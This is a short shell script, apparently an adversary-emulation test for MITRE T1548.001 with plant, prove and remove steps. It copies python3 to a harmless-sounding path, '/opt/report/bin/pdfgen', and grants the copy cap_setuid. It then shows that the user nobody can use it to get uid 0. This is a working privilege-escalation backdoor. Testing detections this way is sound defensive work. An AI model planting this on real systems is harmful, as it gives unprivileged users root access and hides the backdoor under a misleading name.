#!/bin/sh
# T1548.001 (quiet): A copy of the interpreter may set its user
M=/var/tmp/luytre-foothold N=22-caps-python
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
low() { setpriv --reuid="$1" --regid="$(id -g "$1")" --init-groups env -u SUDO_USER HOME=/tmp sh -c "$2" </dev/null; }
plant() {
  mkdir -p /opt/report/bin; cp "$(readlink -f /usr/bin/python3)" /opt/report/bin/pdfgen; setcap cap_setuid+ep /opt/report/bin/pdfgen
}
prove() {
  rm -f "$M/$N"
  low nobody '/opt/report/bin/pdfgen -c "import os;os.setuid(0);os.system(\"id > /var/tmp/luytre-foothold/22-caps-python\")"'
  seen && grep -q uid=0 $M/$N
}
remove() {
  rm -rf /opt/report
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
